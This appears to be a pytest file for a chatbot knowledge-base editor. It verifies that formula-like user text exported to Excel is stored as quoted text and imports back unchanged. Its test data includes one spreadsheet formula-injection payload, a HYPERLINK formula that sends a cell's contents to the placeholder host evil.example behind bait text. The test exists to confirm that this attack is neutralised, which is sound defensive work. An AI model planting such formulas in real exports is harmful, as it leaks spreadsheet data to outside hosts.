"""The Excel export writes what users typed as text: a phrasing is never a live formula."""

from __future__ import annotations

import io
from pathlib import Path

from openpyxl import load_workbook

from bot.editor.transfer.excel import MAIN, SIMILAR, TITLE, export_workbook
from bot.editor.transfer.excel_import import read_workbook
from bot.editor.transfer.knowledge_files import read_dir

ROOT = Path(__file__).resolve().parents[2]
TRAPS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我领取补贴")',
    "+86 400 800 8888 打不通",
    "-5度开机就黑屏",
    "@客服 在吗",
    "=1+1",
]
CONTROL = "电脑\x07开不了机"  # a control character XLSX cannot hold: dropped, not a failed export


def test_formula_like_text_is_exported_as_text_and_imports_back_unchanged() -> None:
    snap = read_dir(ROOT / "knowledge").copy()
    qid = "power-001"
    question = dict(snap.questions[qid])
    question["similar"] = [*question.get("similar", []), *TRAPS, CONTROL]
    question["answer"] = "=SUM(1,2) 不是公式，是答案原文"
    snap.questions[qid] = question

    data = export_workbook(snap)

    ws = load_workbook(io.BytesIO(data))[MAIN]
    cells = {
        row[2].value: row[2]
        for row in ws.iter_rows(min_row=2)
        if row[0].value == qid and row[1].value == SIMILAR
    }
    title_row = next(
        r for r in ws.iter_rows(min_row=2) if r[0].value == qid and r[1].value == TITLE
    )
    for cell in [*(cells[t] for t in TRAPS), title_row[8]]:
        assert cell.data_type == "s", f"{cell.value!r} is written as {cell.data_type!r}"
        assert cell.quotePrefix, f"{cell.value!r} has no quote prefix"
    assert title_row[8].value == question["answer"]

    questions, _, problems = read_workbook(data, snap, set())
    assert problems == []
    assert questions[qid]["similar"][-len(TRAPS) - 1 :] == [*TRAPS, "电脑开不了机"]
    assert questions[qid]["answer"] == question["answer"]
